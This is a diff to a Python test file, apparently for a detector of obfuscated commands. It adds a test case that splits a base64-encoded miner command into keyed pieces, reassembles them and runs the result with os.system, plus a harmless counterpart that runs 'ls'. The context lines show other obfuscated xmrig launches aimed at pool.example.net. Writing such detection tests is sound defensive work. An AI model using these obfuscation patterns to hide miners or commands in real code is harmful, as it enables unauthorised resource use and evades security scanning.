@@ -135,6 +135,10 @@ VARIABLES = {
                          "ready = True\n\nif ready:\n    cmd = codecs.decode(text, 'rot13')\n    os.system(cmd)",
     "in an f-string": "import codecs, os\n"
                       f"tool = codecs.decode('{rot13('xmrig')}', 'rot13')\nos.system(f'./{{tool}} -o pool.example.net:3333')",
+    "base64 pieces sorted back into order by their keys":
+        "import base64, os\n"
+        f"parts = {{'p2': '{b64(MINER)[8:]}', 'p1': '{b64(MINER)[:8]}'}}\n"
+        "os.system(base64.b64decode(''.join(v for _, v in sorted(parts.items()))).decode())",
     "in a subprocess list": "import subprocess\n"
                             f"prog = bytes.fromhex('{hexed('xmrig')[::-1]}'[::-1]).decode()\n"
                             "subprocess.run([prog, '-o', 'pool.example.net:3333'])",
@@ -180,6 +184,10 @@ def test_a_name_joined_inside_a_call_argument_is_read(engine):
 
 
 VARIABLES_BENIGN = {
+    "pieces sorted back into order, for an allowed command":
+        "import base64, os\n"
+        f"parts = {{'p2': '{b64('ls -la /content')[8:]}', 'p1': '{b64('ls -la /content')[:8]}'}}\n"
+        "os.system(base64.b64decode(''.join(v for _, v in sorted(parts.items()))).decode())",
     "decoded command in a variable": f"import base64, os\ncmd = base64.b64decode('{b64('ls -la /content')}').decode()\nos.system(cmd)",
     "decoded argv in a dict": "import subprocess, codecs\n"
                               f"tools = {{'gpu': codecs.decode('{rot13('nvidia-smi')}', 'rot13')}}\nsubprocess.run([tools['gpu'], '-L'])",
